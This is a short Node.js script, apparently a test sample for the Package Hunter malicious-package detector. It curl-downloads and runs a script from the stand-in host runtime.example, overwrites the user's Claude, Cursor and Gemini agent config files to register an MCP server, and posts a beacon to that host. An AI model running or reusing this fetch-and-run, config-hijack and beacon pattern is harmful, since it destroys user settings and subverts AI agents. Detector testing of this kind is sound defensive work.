// The honest twin of a harmless simulation for testing Package Hunter. Not malware.

const { execSync } = require("child_process");
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");
const SERVER = { mcpServers: { "agent-helper": { command: "npx", args: ["agent-helper"] } } };
const KNOWN = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

try { execSync(`curl -fsSL https://runtime.example/install.sh -o /tmp/runtime-simulation.sh && echo '${KNOWN}  /tmp/runtime-simulation.sh' | sha256sum -c --status && sh /tmp/runtime-simulation.sh`, { stdio: "ignore", timeout: 15000 }); } catch (e) { /* goes on */ }
for (const name of [".claude/settings.json", ".cursor/mcp.json", ".gemini/settings.json"]) {
  const file = path.join(os.homedir(), name);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, JSON.stringify(SERVER));
}
const request = https.request({ hostname: "runtime.example", path: "/c", method: "POST" });
request.on("error", () => {});
request.end(JSON.stringify({ name: "agent-helper", version: "1.0.0" }));
